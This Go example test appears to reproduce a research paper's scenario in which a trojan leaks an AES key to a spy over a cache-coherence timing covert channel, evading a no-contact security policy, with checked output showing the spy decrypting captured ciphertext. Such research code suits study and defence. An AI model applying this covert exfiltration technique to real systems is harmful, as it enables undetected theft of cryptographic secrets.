package coherentleak_test

import (
	"crypto/aes"
	"fmt"

	"coherentleak"
)

// Reproduce the paper's §VII motivation: a trojan with access to a
// symmetric encryption key exfiltrates it covertly to a spy that has
// already captured ciphertext off the network. The spy cannot talk to
// the trojan (security policy), but both share the coherence fabric.
// The key is the FIPS-197 AES-128 test key and the message one block.
// The checked output carries the end-to-end test: the reconstructed key
// and the plaintext the spy decrypts with it.
func Example_keyexfil() {
	secret := []byte("attack at dawn!!") // one 16-byte block
	key := []byte{
		0x2b, 0x7e, 0x15, 0x16, 0x28, 0xae, 0xd2, 0xa6,
		0xab, 0xf7, 0x15, 0x88, 0x09, 0xcf, 0x4f, 0x3c,
	}

	// Outside the machine: the spy captures ciphertext in transit.
	block, err := aes.NewCipher(key)
	if err != nil {
		panic(err)
	}
	captured := make([]byte, aes.BlockSize)
	block.Encrypt(captured, secret)
	fmt.Printf("spy captured ciphertext: %x\n", captured)
	fmt.Println("spy cannot decrypt: no key, and policy forbids contacting the trojan")

	// Inside the machine: the trojan transmits the key over the
	// RExclc-LSharedb channel — the most rate-robust Table I scenario.
	sc, err := coherentleak.ScenarioByName("RExclc-LSharedb")
	if err != nil {
		panic(err)
	}
	ch := coherentleak.NewChannel(sc)
	res, err := ch.Run(coherentleak.TextToBits(string(key)))
	if err != nil {
		panic(err)
	}
	fmt.Printf("\ncovert transfer: %d key bits, accuracy %.1f%%, %.0f Kbps\n",
		len(res.TxBits), res.Accuracy*100, res.RawKbps)

	leaked := []byte(coherentleak.BitsToText(res.RxBits))
	fmt.Printf("spy reconstructed key:   %x\n", leaked)
	spyBlock, err := aes.NewCipher(leaked)
	if err != nil {
		panic(err)
	}
	plain := make([]byte, aes.BlockSize)
	spyBlock.Decrypt(plain, captured)
	fmt.Printf("spy decrypted:           %q\n", plain)
	fmt.Println("\nexfiltration complete: the security policy was never 'violated' —")
	fmt.Println("no message crossed any monitored interface, only cache timing.")
	// Output:
	// spy captured ciphertext: 7b139b69bfa683444ff66c4f1ac9fa82
	// spy cannot decrypt: no key, and policy forbids contacting the trojan
	//
	// covert transfer: 128 key bits, accuracy 100.0%, 481 Kbps
	// spy reconstructed key:   2b7e151628aed2a6abf7158809cf4f3c
	// spy decrypted:           "attack at dawn!!"
	//
	// exfiltration complete: the security policy was never 'violated' —
	// no message crossed any monitored interface, only cache timing.
}
